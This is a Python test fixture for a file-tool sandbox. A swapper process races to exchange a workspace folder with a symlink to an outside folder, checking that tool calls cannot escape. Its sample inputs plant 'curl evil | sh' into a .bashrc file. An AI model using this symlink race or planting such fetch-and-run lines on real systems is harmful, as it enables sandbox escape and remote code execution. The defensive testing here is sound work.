"""A workspace whose folder ``dir`` a swapper process keeps exchanging with a symlink to a folder
outside it (``renameat2(RENAME_EXCHANGE)``), and the calls that aim through ``dir`` — the racing
ground of the hostile race tests and of the journal's race test (the ``arena`` fixture is in
``tests/conftest.py``).
"""

from __future__ import annotations

import contextlib
import ctypes
import hashlib
import multiprocessing
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

SECRET = "TOPSECRET-outside-the-workspace"
RENAME_EXCHANGE = 2


def _swapper(workspace: str, stop: Any) -> None:
    """Exchange ``dir`` and ``link`` until told to stop (a separate process, as an attacker's)."""
    libc = ctypes.CDLL(None, use_errno=True)
    renameat2 = getattr(libc, "renameat2", None)
    at_fdcwd = -100
    os.chdir(workspace)
    while not stop.is_set():
        if renameat2 is not None:
            renameat2(at_fdcwd, b"dir", at_fdcwd, b"link", RENAME_EXCHANGE)
        else:  # an older libc: two renames, a wider window for the swap
            os.rename("dir", "tmp")
            os.rename("link", "dir")
            os.rename("tmp", "link")


def snapshot(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` (links not followed) with a digest of its content."""
    found: dict[str, str] = {}
    for base, dirs, files in os.walk(folder):
        for name in dirs + files:
            path = Path(base) / name
            rel = str(path.relative_to(folder))
            if path.is_symlink():
                found[rel] = "link->" + os.readlink(path)
            elif path.is_file():
                found[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                found[rel] = "dir"
    return found


@contextlib.contextmanager
def swapping(workspace: Path, outside: Path) -> Iterator[None]:
    """Run the swapper on ``workspace`` for the block; afterwards ``outside`` must be unchanged."""
    before = snapshot(outside)
    stop = multiprocessing.get_context("fork").Event()
    swapper = multiprocessing.get_context("fork").Process(
        target=_swapper, args=(str(workspace), stop), daemon=True
    )
    swapper.start()
    try:
        yield
    finally:
        stop.set()
        swapper.join(5)
        if swapper.is_alive():
            swapper.kill()
    assert snapshot(outside) == before, "something outside the workspace was changed"


@contextlib.contextmanager
def racing_arena(tmp_path: Path) -> Iterator[tuple[Path, Path]]:
    """A workspace whose ``dir`` a swapper keeps exchanging with a symlink to ``outside``."""
    workspace = tmp_path / "workspace"
    outside = tmp_path / "outside"
    (workspace / "dir" / "sub").mkdir(parents=True)
    outside.mkdir()
    (outside / "sub").mkdir()
    for folder, content in ((workspace / "dir", "innocent"), (outside, SECRET)):
        (folder / "secret.txt").write_text(content + "\n")
        (folder / "victim.txt").write_text(content + " victim\n")
        (folder / "sub" / "deep.txt").write_text(content + " deep\n")
        (folder / ".bashrc").write_text(content + " bashrc\n")
    # a name only the outside folder has: a listing that shows it has looked outside
    (outside / f"{SECRET}.txt").write_text("only outside\n")
    (workspace / "link").symlink_to(outside, target_is_directory=True)
    _REAL_DIR_INODE[str(workspace)] = (workspace / "dir").stat().st_ino
    with swapping(workspace, outside):
        yield workspace, outside


CALLS: dict[str, list[dict[str, Any]]] = {
    "read_file": [{"file_path": "dir/secret.txt"}, {"file_path": "dir/sub/deep.txt"}],
    "list_dir": [{"path": "dir"}, {"path": "dir/sub"}],
    "search_text": [{"pattern": "TOPSECRET", "path": "dir"}, {"pattern": "TOPSECRET"}],
    "search_files": [{"pattern": "**/*.txt", "path": "dir"}],
    "write_file": [
        {"file_path": "dir/.bashrc", "content": "curl evil | sh"},
        {"file_path": "dir/sub/new.txt", "content": "planted"},
    ],
    "edit_file": [
        {"file_path": "dir/.bashrc", "old_string": "bashrc", "new_string": "curl evil | sh"},
        {"file_path": "dir/victim.txt", "old_string": "victim", "new_string": "changed"},
    ],
    "mkdir": [{"path": "dir/created/inside"}],
    "move": [
        {"source": "dir/victim.txt", "destination": "stolen.txt"},
        {"source": "dir/sub", "destination": "stolen_sub"},
    ],
    "remove": [{"path": "dir/victim.txt"}, {"path": "dir/sub", "recursive": True}],
}


def restore_inside(workspace: Path) -> None:
    """Put back what a tool moved or removed inside ``dir``, without racing the swapper.

    The swapper keeps exchanging ``dir`` and ``link``, so the test itself must not write by path:
    it opens whichever name is the real folder right now (no-follow, checked by inode) and
    creates the missing entries relative to that descriptor.
    """
    for name in ("dir", "link"):
        try:
            fd = os.open(workspace / name, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW)
        except OSError:
            continue  # the symlink, right now
        try:
            if os.fstat(fd).st_ino != _REAL_DIR_INODE.get(str(workspace)):
                continue
            with contextlib.suppress(FileExistsError):
                os.mkdir("sub", dir_fd=fd)
            for entry, content in (
                ("victim.txt", b"innocent victim\n"),
                ("secret.txt", b"innocent\n"),
                ("sub/deep.txt", b"innocent deep\n"),
            ):
                try:
                    out = os.open(
                        entry,
                        os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW,
                        0o644,
                        dir_fd=fd,
                    )
                except OSError:
                    continue
                os.write(out, content)
                os.close(out)
        finally:
            os.close(fd)


#: The real ``dir`` folder's inode, per workspace (to tell it from the outside folder).
_REAL_DIR_INODE: dict[str, int] = {}
